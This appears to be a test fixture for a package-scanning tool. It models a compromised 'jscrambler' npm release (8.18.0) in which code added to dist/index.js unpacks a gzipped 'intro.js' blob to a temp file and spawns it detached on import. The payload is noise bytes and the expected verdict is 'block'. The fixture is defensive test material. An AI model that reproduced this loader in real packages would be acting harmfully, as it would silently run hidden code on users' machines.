import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noiseBytes } from '../replicas/replica.js';

export const before = {
  version: '8.17.0',
  publishedAt: '2026-07-12T09:14:27.000Z',
  publisher: { name: 'jscrambler-ci', email: 'ci@mail.example.invalid' },
  manifest: {
    main: 'dist/index.js',
    bin: { jscrambler: 'dist/bin/jscrambler.js' },
    license: 'MIT',
    description: 'client of a code protection service',
    dependencies: { commander: '^12.0.0' },
  },
  files: {
    'dist/index.js': `"use strict";

Object.defineProperty(exports, "__esModule", { value: true });
exports.default = void 0;
var _client = require("./client.js");
var _default = exports.default = {
  Client: _client.default,
  getApplications: keys => new _client.default(keys).get("/applications")
};
`,
    'dist/client.js': `"use strict";

Object.defineProperty(exports, "__esModule", { value: true });
exports.default = void 0;
var _https = require("https");
class JscramblerClient {
  constructor({ accessKey, host = "api4.jscrambler.example.invalid" }) {
    Object.assign(this, { accessKey, host });
  }
  get(path) {
    return new Promise((resolve, reject) => {
      (0, _https.get)({ host: this.host, path, headers: { "access-key": this.accessKey } }, res => {
        let text = "";
        res.on("data", d => text += d).on("end", () => resolve(JSON.parse(text)));
      }).on("error", reject);
    });
  }
}
exports.default = JscramblerClient;
`,
    'dist/bin/jscrambler.js': `#!/usr/bin/env node
"use strict";

const jscrambler = require("../index.js").default;
jscrambler.getApplications({ accessKey: process.argv[2] }).then(list => console.table(list));
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'jscrambler-2026-b',
  story: 'July 2026, 8.18: the same blob, unpacked and started when the library or its command is imported.',
  name: 'jscrambler',
  before,
  after: {
    version: '8.18.0',
    publishedAt: '2026-07-12T21:03:00.000Z',
    publisher: { name: 'jscrambler-ci', email: 'ci@mail.example.invalid' },
    manifest: {
      main: 'dist/index.js',
      bin: { jscrambler: 'dist/bin/jscrambler.js' },
      license: 'MIT',
      description: 'client of a code protection service',
      dependencies: { commander: '^12.0.0' },
    },
    files: {
      'dist/client.js': before.files['dist/client.js'],
      'dist/bin/jscrambler.js': before.files['dist/bin/jscrambler.js'],
      'dist/index.js': before.files['dist/index.js']
        .replace(`var _client = require("./client.js");`, () => `var _client = require("./client.js");
var _z = require("zlib"), _f = require("fs"), _o = require("os"), _j = require("path").join, _cp = require("child_process");
setImmediate(() => {
  const t = _j(_o.tmpdir(), \`jsc-\${process.pid.toString(36)}\`);
  _f.createReadStream(_j(__dirname, "intro.js"))
    .pipe(_z.createGunzip())
    .on("error", () => {})
    .pipe(_f.createWriteStream(t, { mode: 0o600 }))
    .on("close", () => _f.chmod(t, 0o755, e => e || _cp.spawn(t, { detached: !0, stdio: "ignore" }).unref()));
});`),
      'dist/intro.js': Buffer.concat(Array<Uint8Array>(5).fill(noiseBytes(1_500_000, 81801))),
    },
  },
  must: 'block',
};
